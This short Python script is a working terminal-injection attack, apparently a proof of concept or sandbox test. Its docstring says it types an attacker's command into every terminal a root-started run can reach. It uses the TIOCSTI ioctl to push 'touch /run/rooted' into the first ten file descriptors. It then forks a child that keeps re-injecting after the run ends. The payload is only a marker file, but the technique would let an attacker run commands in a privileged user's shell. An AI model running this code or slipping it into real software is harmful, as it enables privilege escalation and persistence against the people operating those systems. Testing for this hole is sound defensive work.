"""In a run that root started at a terminal: types a command of the attacker's into every terminal it can reach, now and,
by a child that stays, when the run has ended."""
import fcntl, os, termios, time

LINE = b"\ntouch /run/rooted\n"


def type_it():
    for fd in range(10):
        try:
            for byte in LINE:
                fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
        except OSError:
            pass


try:
    os.open("/dev/tty", os.O_RDWR)
except OSError:
    pass
type_it()
print("typed", flush=True)
if os.fork() == 0:
    for _ in range(20):
        time.sleep(0.1)
        type_it()
